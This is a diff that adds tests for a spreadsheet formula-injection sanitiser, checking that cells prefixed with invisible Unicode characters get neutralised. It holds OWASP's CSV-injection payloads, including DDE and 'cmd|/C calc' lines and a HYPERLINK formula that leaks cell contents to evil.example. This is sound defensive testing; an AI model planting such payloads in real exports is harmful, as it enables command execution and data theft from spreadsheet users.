@@ -365,3 +365,71 @@ describe("neutralizeCell: hidden prefixes and multi-line cells", () => {
     expect(neutralizeCell("-5")).toBe("-5");
   });
 });
+
+describe("neutralizeCell: any character a spreadsheet may skip before a trigger", () => {
+  // The audit's characters, then a sample of each category: Cc (C1 controls), Cf (format), Zs, Zl,
+  // Zp, the other default-ignorable characters and the noncharacters.
+  const skippable: [string, string][] = [
+    ["U+0085 NEXT LINE (Cc)", "\u0085"],
+    ["U+180E MONGOLIAN VOWEL SEPARATOR (Cf)", "\u180E"],
+    ["U+FFF9 INTERLINEAR ANNOTATION ANCHOR (Cf)", "\uFFF9"],
+    ["U+FFFE (noncharacter)", "\uFFFE"],
+    ["U+0080 (Cc)", "\u0080"],
+    ["U+009F (Cc)", "\u009F"],
+    ["U+00AD SOFT HYPHEN (Cf)", "\u00AD"],
+    ["U+061C ARABIC LETTER MARK (Cf)", "\u061C"],
+    ["U+200E LEFT-TO-RIGHT MARK (Cf)", "\u200E"],
+    ["U+202E RIGHT-TO-LEFT OVERRIDE (Cf)", "\u202E"],
+    ["U+2066 LEFT-TO-RIGHT ISOLATE (Cf)", "\u2066"],
+    ["U+FEFF BYTE ORDER MARK (Cf)", "\uFEFF"],
+    ["U+FFFA (Cf)", "\uFFFA"],
+    ["U+FFFB (Cf)", "\uFFFB"],
+    ["U+E0001 LANGUAGE TAG (Cf)", "\u{E0001}"],
+    ["U+1680 OGHAM SPACE MARK (Zs)", "\u1680"],
+    ["U+2007 FIGURE SPACE (Zs)", "\u2007"],
+    ["U+202F NARROW NO-BREAK SPACE (Zs)", "\u202F"],
+    ["U+2028 LINE SEPARATOR (Zl)", "\u2028"],
+    ["U+2029 PARAGRAPH SEPARATOR (Zp)", "\u2029"],
+    ["U+115F HANGUL CHOSEONG FILLER (default ignorable)", "\u115F"],
+    ["U+3164 HANGUL FILLER (default ignorable)", "\u3164"],
+    ["U+FE0F VARIATION SELECTOR-16 (default ignorable)", "\uFE0F"],
+    ["U+FFFF (noncharacter)", "\uFFFF"],
+    ["U+FDD0 (noncharacter)", "\uFDD0"],
+  ];
+  // OWASP's CSV-injection payloads (www-community "CSV Injection").
+  const owasp = [
+    "=1+2",
+    "=1+2\";=1+2",
+    "=1+2'\" ;,=1+2",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "=cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click for further information")',
+    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
+    "\t=1+2",
+    "\r=1+2",
+    "\n=1+2",
+  ];
+
+  it.each(skippable)("neutralises every OWASP payload behind %s", (_name, hidden) => {
+    for (const payload of owasp) {
+      const out = neutralizeCell(`${hidden}${payload}`);
+      // A line break in the payload starts a line of its own, which gets its own quote.
+      if (/^[\r\n]/.test(payload)) expect(out, payload).toBe(`${hidden}${payload[0]}'${payload.slice(1)}`);
+      else expect(out, payload).toBe(`'${hidden}${payload}`);
+      if (!/^[\r\n]/.test(payload)) expect(neutralizeCell(`${hidden} ${hidden}${payload}`).startsWith("'"), payload).toBe(true);
+      // …and at the start of a later line of the cell (the quote goes before the trigger itself).
+      if (/^[=+\-@]/.test(payload)) expect(neutralizeCell(`Pump\n${hidden}${payload}`), payload).toBe(`Pump\n${hidden}'${payload}`);
+    }
+  });
+
+  it.each(skippable)("leaves text behind %s alone", (_name, hidden) => {
+    expect(neutralizeCell(`${hidden}Pump`)).toBe(`${hidden}Pump`);
+  });
+
+  it("neutralises the analytics export's cells too: it writes with csvDocument", () => {
+    const text = csvDocument([{ query: "\u0085=HYPERLINK(\"http://evil.example\")" }], ["query"], { query: "Query" });
+    expect(text).toContain("\"'\u0085=HYPERLINK(\"\"http://evil.example\"\")\"");
+  });
+});
